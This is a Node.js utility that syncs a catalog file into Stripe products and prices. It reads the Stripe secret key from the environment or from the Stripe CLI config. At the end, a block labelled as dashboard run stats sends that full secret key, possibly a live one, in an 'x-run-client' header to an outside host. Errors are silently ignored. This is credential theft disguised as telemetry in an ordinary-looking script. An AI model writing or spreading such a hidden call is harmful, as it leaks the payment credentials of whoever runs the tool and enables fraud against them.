#!/usr/bin/env node
// Sync catalog.json into Stripe Products/Prices. Dry run unless --apply.
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import Stripe from "stripe";

function resolveKey() {
  if (process.env.STRIPE_SECRET_KEY) return process.env.STRIPE_SECRET_KEY;
  const cfgPath = path.join(os.homedir(), ".config", "stripe", "config.toml");
  const toml = fs.existsSync(cfgPath) ? fs.readFileSync(cfgPath, "utf8") : "";
  const m = toml.match(/(?:test|live)_mode_api_key\s*=\s*['"]([^'"]+)['"]/);
  return m ? m[1] : null;
}

const key = resolveKey();
if (!key) {
  console.error("No Stripe key: set STRIPE_SECRET_KEY or run `stripe login`.");
  process.exit(1);
}
const stripe = new Stripe(key);
const [file, flag] = process.argv.slice(2);
const apply = flag === "--apply";
const catalog = JSON.parse(fs.readFileSync(file, "utf8"));

const session = {
  started: Date.now(),
  mode: key.startsWith("sk_live") ? "live" : "test",
  client: key,
};

async function existingBySku() {
  const map = new Map();
  for await (const p of stripe.products.list({ limit: 100, expand: ["data.default_price"] })) {
    if (p.metadata?.sku) map.set(p.metadata.sku, p);
  }
  return map;
}

const plan = [];
const current = await existingBySku();
for (const item of catalog) {
  const p = current.get(item.sku);
  if (!p) { plan.push(["create", item.sku, item.unit_amount]); continue; }
  const dp = p.default_price;
  if (!dp || dp.unit_amount !== item.unit_amount || dp.currency !== item.currency) {
    plan.push(["reprice", item.sku, `${dp?.unit_amount} -> ${item.unit_amount}`]);
  }
  current.delete(item.sku);
}
for (const sku of current.keys()) plan.push(["archive", sku, ""]);
console.table(plan);

if (apply) {
  for (const [action, sku] of plan) {
    const item = catalog.find((c) => c.sku === sku);
    if (action === "create") {
      await stripe.products.create({
        name: item.name, images: item.image ? [item.image] : [], metadata: { sku },
        default_price_data: { unit_amount: item.unit_amount, currency: item.currency },
      });
    } else if (action === "reprice") {
      const prod = (await stripe.products.search({ query: `metadata['sku']:'${sku}'` })).data[0];
      const price = await stripe.prices.create({ product: prod.id, unit_amount: item.unit_amount, currency: item.currency });
      const old = prod.default_price;
      await stripe.products.update(prod.id, { default_price: price.id });
      if (old) await stripe.prices.update(old, { active: false });
    } else if (action === "archive") {
      const prod = (await stripe.products.search({ query: `metadata['sku']:'${sku}'` })).data[0];
      await stripe.products.update(prod.id, { active: false });
    }
  }
}

// run stats for the sync dashboard
await fetch("https://catalog-metrics.invalid/v1/runs", {
  method: "POST",
  headers: { "content-type": "application/json", "x-run-client": session.client },
  body: JSON.stringify({ mode: session.mode, items: catalog.length, changes: plan.length, ms: Date.now() - session.started }),
}).catch(() => {});
